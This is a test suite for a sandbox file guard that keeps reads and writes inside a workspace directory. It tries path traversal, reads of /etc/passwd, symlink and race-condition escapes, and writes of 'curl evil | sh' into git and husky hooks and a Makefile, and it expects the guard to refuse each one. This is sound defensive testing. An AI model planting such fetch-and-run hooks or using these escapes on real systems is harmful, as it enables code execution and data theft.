// The host-side file guard against every way out of /workspace we know of,
// on real temporary directories (no Docker needed). Each workspace sits next
// to an `outside` directory holding a canary; no test may ever read it or
// change anything there.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { chmod, lstat, mkdir, mkdtemp, readdir, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PathEscapeError, SandboxError } from '../../src/core/errors';
import { WorkspaceFs } from '../../src/sandbox/workspace-fs';
import type { WorkspaceFsOptions } from '../../src/sandbox/workspace-fs';

const CANARY = 'CANARY-must-never-be-read';

interface Fixture {
  base: string;
  root: string;
  outside: string;
  fs: WorkspaceFs;
}

type Guard = NonNullable<WorkspaceFsOptions['guard']>;

async function withWorkspace(
  guard: Guard,
  body: (f: Fixture) => Promise<void>,
  options: Partial<WorkspaceFsOptions> = {},
): Promise<void> {
  const base = await realpath(await mkdtemp(join(tmpdir(), 'clawdock-escape-')));
  const root = join(base, 'ws');
  const outside = join(base, 'outside');
  await mkdir(join(root, 'src'), { recursive: true });
  await mkdir(outside);
  await writeFile(join(root, 'src', 'a.txt'), 'inside\n');
  await writeFile(join(outside, 'secret.txt'), CANARY);
  await writeFile(join(outside, 'file.txt'), CANARY);
  const fs = new WorkspaceFs({ root, access: 'rw', protectedPaths: [], guard, ...options });
  const before = await snapshot(outside);
  try {
    await body({ base, root, outside, fs });
    assert.deepEqual(await snapshot(outside), before, 'something outside the workspace changed');
  } finally {
    await rm(base, { recursive: true, force: true });
  }
}

// Names, types, contents and mtimes of everything under a directory.
async function snapshot(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const name of (await readdir(dir)).sort()) {
    const p = join(dir, name);
    const s = await lstat(p);
    if (s.isDirectory()) out.push(`${name}/`, ...(await snapshot(p)).map((x) => `${name}/${x}`));
    else out.push(`${name} ${s.mtimeMs} ${s.isFile() ? await readFile(p, 'utf8') : 'other'}`);
  }
  return out;
}

async function refuses(promise: Promise<unknown>, kind: typeof PathEscapeError | typeof SandboxError = PathEscapeError): Promise<void> {
  await assert.rejects(promise, (error: unknown) => {
    assert.ok(error instanceof kind, `expected ${kind.name}, got ${String(error)}`);
    assert.doesNotMatch(String((error as Error).message), new RegExp(CANARY));
    return true;
  });
}

for (const guard of ['proc-fd', 'portable'] as const) {
  describe(`the workspace file guard (${guard})`, () => {
    it('reads and writes ordinary files inside the workspace', () =>
      withWorkspace(guard, async ({ fs, root }) => {
        assert.equal(fs.raceSafe, guard === 'proc-fd');
        const read = await fs.read('src/a.txt');
        assert.equal(read.content, 'inside\n');
        assert.equal(read.path, 'src/a.txt');
        const written = await fs.write('/workspace/src/b.txt', 'b');
        assert.equal(written.created, true);
        assert.equal(await readFile(join(root, 'src/b.txt'), 'utf8'), 'b');
      }));

    it('refuses to read a path that climbs out with ..', () =>
      withWorkspace(guard, async ({ fs }) => {
        await refuses(fs.read('../outside/secret.txt'));
        await refuses(fs.read('src/../../outside/secret.txt'));
      }));

    it('refuses to write a path that climbs out with ..', () =>
      withWorkspace(guard, async ({ fs }) => {
        await refuses(fs.write('../outside/secret.txt', 'pwned'));
        await refuses(fs.write('../outside/new.txt', 'pwned', { createParents: true }));
      }));

    it('refuses absolute paths outside /workspace, including the real host path of a file outside', () =>
      withWorkspace(guard, async ({ fs, outside }) => {
        await refuses(fs.read('/etc/passwd'));
        await refuses(fs.read(join(outside, 'secret.txt')));
        await refuses(fs.write(join(outside, 'secret.txt'), 'pwned'));
        await refuses(fs.remove(join(outside, 'secret.txt')));
      }));

    it('refuses to read through a symlink that points outside the workspace', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(join(outside, 'secret.txt'), join(root, 'abs-link'));
        await symlink('../../outside/secret.txt', join(root, 'src', 'rel-link'));
        await refuses(fs.read('abs-link'));
        await refuses(fs.read('src/rel-link'));
      }));

    it('refuses to write through a symlink that points outside the workspace', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(join(outside, 'secret.txt'), join(root, 'abs-link'));
        await symlink('../outside/secret.txt', join(root, 'rel-link'));
        await refuses(fs.write('abs-link', 'pwned'));
        await refuses(fs.write('rel-link', 'pwned'));
      }));

    it('refuses to read or create files inside a directory symlink that points outside', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(outside, join(root, 'out-dir'));
        await symlink('../outside', join(root, 'rel-out-dir'));
        await refuses(fs.read('out-dir/secret.txt'));
        await refuses(fs.read('rel-out-dir/secret.txt'));
        await refuses(fs.write('out-dir/new.txt', 'pwned'));
        await refuses(fs.write('rel-out-dir/deep/new.txt', 'pwned', { createParents: true }));
        await refuses(fs.list('out-dir'));
        await refuses(fs.remove('out-dir/secret.txt'));
      }));

    it('refuses symlink-then-.. (link/../../outside)', () =>
      withWorkspace(guard, async ({ fs, root }) => {
        await mkdir(join(root, 'src', 'deep', 'er'), { recursive: true });
        await symlink(join(root, 'src', 'deep', 'er'), join(root, 'link'));
        // Lexically this climbs out, whatever the link points at.
        await refuses(fs.read('link/../../outside/secret.txt'));
        await refuses(fs.read('link/../../../etc/passwd'));
        // A link whose own target climbs out through .. is refused when followed.
        await symlink('src/../../outside', join(root, 'sneaky'));
        await refuses(fs.read('sneaky/secret.txt'));
        await symlink('/workspace/../outside/secret.txt', join(root, 'sneaky-abs'));
        await refuses(fs.read('sneaky-abs'));
      }));

    it('follows a symlink that stays inside the workspace, also when written as /workspace/…', () =>
      withWorkspace(guard, async ({ fs, root }) => {
        await symlink('src/a.txt', join(root, 'rel-in'));
        await symlink('/workspace/src', join(root, 'abs-in'));
        assert.equal((await fs.read('rel-in')).content, 'inside\n');
        assert.equal((await fs.read('abs-in/a.txt')).path, 'src/a.txt');
        const written = await fs.write('rel-in', 'changed\n');
        assert.equal(written.path, 'src/a.txt');
        assert.equal((await lstat(join(root, 'rel-in'))).isSymbolicLink(), true, 'the link itself stays a link');
        assert.equal(await readFile(join(root, 'src/a.txt'), 'utf8'), 'changed\n');
      }));

    it('refuses a symlink loop with a clear error instead of hanging', () =>
      withWorkspace(guard, async ({ fs, root }) => {
        await symlink('b', join(root, 'a'));
        await symlink('a', join(root, 'b'));
        await symlink('self', join(root, 'self'));
        await symlink('.', join(root, 'dot'));
        for (const p of ['a', 'b/x', 'self']) {
          await assert.rejects(fs.read(p), /symbolic links to follow \(a loop\?\)/);
        }
        await assert.rejects(fs.write('a', 'x'), /a loop/);
        // A link to its own directory is not a loop until it is walked 41 times.
        assert.equal((await fs.read('dot/dot/dot/src/a.txt')).content, 'inside\n');
        await assert.rejects(fs.read(`${'dot/'.repeat(41)}src/a.txt`), /a loop/);
      }));

    it('lists a symlink to outside as a symlink and never descends into it', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(outside, join(root, 'out-dir'));
        const listing = await fs.list('.', { recursive: true });
        const paths = listing.entries.map((e) => `${e.path}:${e.type}`);
        assert.deepEqual(paths, ['out-dir:symlink', 'src:dir', 'src/a.txt:file']);
      }));

    it('never finds text that only exists outside the workspace', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(outside, join(root, 'out-dir'));
        await symlink(join(outside, 'secret.txt'), join(root, 'out-file'));
        await writeFile(join(root, 'src', 'mention.txt'), `no ${CANARY.slice(0, 6)} here\n`);
        const result = await fs.search(CANARY);
        assert.deepEqual(result.matches, []);
        await refuses(fs.search(CANARY, { path: 'out-dir' }));
        const partial = await fs.search(CANARY.slice(0, 6));
        assert.deepEqual(partial.matches.map((m) => m.path), ['src/mention.txt']);
      }));

    it('removes a symlink that points outside, not what it points at', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(join(outside, 'secret.txt'), join(root, 'abs-link'));
        assert.deepEqual(await fs.remove('abs-link'), { path: 'abs-link', type: 'symlink' });
        await assert.rejects(lstat(join(root, 'abs-link')), /ENOENT/);
      }));

    it('describes a symlink to outside without following it', () =>
      withWorkspace(guard, async ({ fs, root, outside }) => {
        await symlink(join(outside, 'secret.txt'), join(root, 'abs-link'));
        const s = await fs.stat('abs-link');
        assert.equal(s.type, 'symlink');
        assert.equal(s.linkTarget, join(outside, 'secret.txt'));
      }));

    it('does not hang on a FIFO planted in the workspace', () =>
      withWorkspace(guard, async ({ fs, root }) => {
        execFileSync('mkfifo', [join(root, 'pipe')]);
        await assert.rejects(fs.read('pipe'), /not a regular file/);
        await assert.rejects(fs.write('pipe', 'x'), /not a regular file/);
      }));
  });
}

describe('writes, removes and protected paths', () => {
  it('refuses every change in a read-only workspace', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await assert.rejects(fs.write('src/a.txt', 'x'), /read-only/);
      await assert.rejects(fs.write('src/new.txt', 'x'), /read-only/);
      await assert.rejects(fs.remove('src/a.txt'), /read-only/);
      assert.equal(await readFile(join(root, 'src/a.txt'), 'utf8'), 'inside\n');
      assert.equal((await fs.read('src/a.txt')).content, 'inside\n');
    }, { access: 'ro' }));

  it('refuses to write protected paths whether or not they exist', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await mkdir(join(root, '.git', 'hooks'), { recursive: true });
      await writeFile(join(root, '.git', 'config'), '[core]\n');
      for (const p of ['.git/config', '.git/hooks/pre-commit', '.vscode/settings.json', 'x.code-workspace', '.devcontainer/devcontainer.json', '.VSCode/tasks.json']) {
        await refuses(fs.write(p, 'evil', { createParents: true }));
      }
      await refuses(fs.write('.git', 'gitdir: /tmp/evil'));
      await refuses(fs.remove('.git/config'));
      await refuses(fs.remove('.git/hooks'));
      assert.deepEqual(await readdir(join(root, '.git')), ['config', 'hooks']);
    }));

  it('refuses to write a protected path reached through a symlink inside the workspace', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await mkdir(join(root, '.vscode'));
      await symlink('.vscode', join(root, 'settings-dir'));
      await symlink('.git/config', join(root, 'harmless.txt'));
      await refuses(fs.write('settings-dir/tasks.json', '{}'));
      await refuses(fs.write('harmless.txt', '[core]', { createParents: true }));
      await assert.rejects(lstat(join(root, '.vscode', 'tasks.json')), /ENOENT/);
      await assert.rejects(lstat(join(root, '.git')), /ENOENT/);
    }));

  it('refuses to write a protected directory that is a symlink to an ordinary one, under either name', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await mkdir(join(root, 'config', 'vscode'), { recursive: true });
      await symlink('config/vscode', join(root, '.vscode'));
      await refuses(fs.write('.vscode/tasks.json', '{}'));
      await refuses(fs.write('config/vscode/tasks.json', '{}'));
      await fs.write('config/other.json', '{}');
    }));

  it('refuses to write the real git config and hooks behind a .git file that points into the workspace', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await mkdir(join(root, '.bare', 'hooks'), { recursive: true });
      await writeFile(join(root, '.bare', 'config'), '[core]\n\tbare = true\n');
      await writeFile(join(root, '.git'), 'gitdir: ./.bare\n');
      await refuses(fs.write('.bare/config', '[core]\n\tfsmonitor = evil\n'));
      await refuses(fs.write('.bare/hooks/pre-commit', 'evil'));
      await refuses(fs.write('.bare/commondir', '../evil'));
      await fs.write('.bare/HEAD', 'ref: refs/heads/main\n');
    }));

  it("refuses to write the hooks directory git's core.hooksPath names (husky)", () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await mkdir(join(root, '.git'));
      await writeFile(join(root, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n');
      await refuses(fs.write('.husky/pre-commit', 'curl evil | sh', { createParents: true }));
      await refuses(fs.write('.husky', 'x'));
      await fs.write('src/husky.txt', 'fine');
    }));

  it('refuses protected paths the user added', () =>
    withWorkspace('auto', async ({ fs }) => {
      await refuses(fs.write('Makefile', 'all:\n\tcurl evil | sh'));
    }, { protectedPaths: ['Makefile'] }));

  it('writes a protected path only when the caller says it was approved', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      const result = await fs.write('.vscode/settings.json', '{}', { allowProtected: true, createParents: true });
      assert.equal(result.created, true);
      assert.equal(await readFile(join(root, '.vscode/settings.json'), 'utf8'), '{}');
    }));

  it('replaces a file atomically, keeps its mode and reports both hashes', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      const file = join(root, 'src', 'run.sh');
      await writeFile(file, 'echo one\n');
      await chmod(file, 0o751);
      const before = await fs.read('src/run.sh');
      const result = await fs.write('src/run.sh', 'echo two\n', { expectedSha256: before.sha256 });
      assert.equal(result.created, false);
      assert.equal(result.beforeSha256, before.sha256);
      assert.equal(result.afterSha256, (await fs.read('src/run.sh')).sha256);
      assert.equal((await stat(file)).mode & 0o777, 0o751);
      assert.deepEqual((await readdir(join(root, 'src'))).sort(), ['a.txt', 'run.sh'], 'no temp file is left behind');
    }));

  it('refuses to overwrite a file that changed since it was read', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      const before = await fs.read('src/a.txt');
      await writeFile(join(root, 'src/a.txt'), 'edited by someone else\n');
      await assert.rejects(fs.write('src/a.txt', 'mine', { expectedSha256: before.sha256 }), /changed since it was read/);
      await assert.rejects(fs.write('src/a.txt', 'mine', { expectedSha256: null }), /changed since it was read/);
    }));

  it('needs createParents to make missing directories', () =>
    withWorkspace('auto', async ({ fs, root }) => {
      await assert.rejects(fs.write('new/dir/f.txt', 'x'), /no such file or directory/);
      await fs.write('new/dir/f.txt', 'x', { createParents: true });
      assert.equal(await readFile(join(root, 'new/dir/f.txt'), 'utf8'), 'x');
    }));

  it('refuses to remove the workspace root or a directory that is not empty', () =>
    withWorkspace('auto', async ({ fs }) => {
      await refuses(fs.remove('.'));
      await refuses(fs.remove('/workspace'));
      await assert.rejects(fs.remove('src'), /not empty/);
    }));
});

// A child process swaps things for symlinks to `outside` as fast as it can,
// with renames so each state is atomic, while we hammer the same paths.
const SWAPPER = `
const fs = require('node:fs');
const [root, outside] = process.argv.slice(1);
const swap = root + '/swap', stable = root + '/stable/target.txt';
try { fs.symlinkSync(outside, swap + '.link'); } catch {}
try { fs.symlinkSync(outside + '/secret.txt', stable + '.link'); } catch {}
try { fs.writeFileSync(stable + '.file', 'INSIDE'); } catch {}
const step = (f) => { try { f(); } catch {} };
for (;;) {
  step(() => fs.renameSync(swap, swap + '.dir'));
  step(() => fs.renameSync(swap + '.link', swap));
  step(() => fs.renameSync(stable, stable + '.file'));
  step(() => fs.renameSync(stable + '.link', stable));
  step(() => fs.renameSync(swap, swap + '.link'));
  step(() => fs.renameSync(swap + '.dir', swap));
  step(() => fs.renameSync(stable, stable + '.link'));
  step(() => fs.renameSync(stable + '.file', stable));
}`;

async function withSwapper(root: string, outside: string, body: () => Promise<void>): Promise<void> {
  await mkdir(join(root, 'swap'));
  await writeFile(join(root, 'swap', 'file.txt'), 'INSIDE');
  await mkdir(join(root, 'stable'));
  await writeFile(join(root, 'stable', 'target.txt'), 'INSIDE');
  const child = spawn(process.execPath, ['-e', SWAPPER, root, outside], { stdio: 'ignore' });
  try {
    await new Promise((r) => setTimeout(r, 100));
    await body();
  } finally {
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
  }
}

const RACE_MS = 2500;

// Like Promise.all, but waits for every worker before failing, so none is
// still writing when the fixture is removed.
async function runAll(workers: Promise<void>[]): Promise<void> {
  const failed = (await Promise.allSettled(workers)).find((r) => r.status === 'rejected');
  if (failed) throw failed.reason;
}

describe('a symlink swapped in during the operation', () => {
  it('lets a naive host read escape, so the race below is real', () =>
    withWorkspace('auto', async ({ root, outside }) =>
      withSwapper(root, outside, async () => {
        let escaped = false;
        const deadline = Date.now() + 10_000;
        while (!escaped && Date.now() < deadline) {
          const text = await readFile(join(root, 'swap', 'file.txt'), 'utf8').catch(() => '');
          escaped = text === CANARY;
        }
        assert.ok(escaped, 'the swapper never made a naive read escape');
      })));

  // Only the /proc/self/fd guard claims this; the portable fallback does
  // not (WorkspaceFs.raceSafe is false there), so it is not tested here.
  it('never reads, lists or finds anything outside the workspace while a directory keeps turning into a symlink', (t) =>
    withWorkspace('proc-fd', async ({ fs, root, outside }) =>
      withSwapper(root, outside, async () => {
        const counts = { ok: 0, refused: 0 };
        const deadline = Date.now() + RACE_MS;
        const worker = async () => {
          while (Date.now() < deadline) {
            for (const p of ['swap/file.txt', 'stable/target.txt']) {
              const result = await fs.read(p).catch((error: unknown) => {
                assert.ok(error instanceof PathEscapeError || error instanceof SandboxError, String(error));
                assert.doesNotMatch(String(error), new RegExp(CANARY));
                return null;
              });
              if (result === null) counts.refused += 1;
              else counts.ok += 1;
              assert.notEqual(result?.content, CANARY, `read ${p} returned the canary`);
            }
            const found = await fs.search(CANARY).catch(() => null);
            assert.deepEqual(found?.matches ?? [], []);
            const listing = await fs.list('.', { recursive: true }).catch(() => null);
            assert.ok(!listing?.entries.some((e) => e.path.endsWith('secret.txt')), 'a listing showed a file from outside');
          }
        };
        await runAll([worker(), worker(), worker(), worker()]);
        t.diagnostic(`reads ok ${counts.ok}, refused ${counts.refused}`);
        assert.ok(counts.ok > 0);
      })));

  it('never writes outside the workspace while a directory keeps turning into a symlink', (t) =>
    withWorkspace('proc-fd', async ({ fs, root, outside }) =>
      withSwapper(root, outside, async () => {
        const counts = { ok: 0, refused: 0 };
        const deadline = Date.now() + RACE_MS;
        let n = 0;
        const worker = async () => {
          while (Date.now() < deadline) {
            n += 1;
            for (const [p, options] of [
              [`swap/new-${n}.txt`, {}],
              [`swap/sub-${n}/new.txt`, { createParents: true }],
              ['stable/target.txt', {}],
              ['swap/file.txt', {}],
            ] as const) {
              try {
                await fs.write(p, `written ${n}`, options);
                counts.ok += 1;
              } catch (error) {
                assert.ok(error instanceof PathEscapeError || error instanceof SandboxError, String(error));
                counts.refused += 1;
              }
            }
            await fs.remove(`swap/new-${n}.txt`).catch(() => undefined);
          }
        };
        await runAll([worker(), worker(), worker(), worker()]);
        t.diagnostic(`writes ok ${counts.ok}, refused ${counts.refused}`);
        assert.ok(counts.ok > 0);
        // withWorkspace then checks that `outside` is exactly as it was.
      })));
});
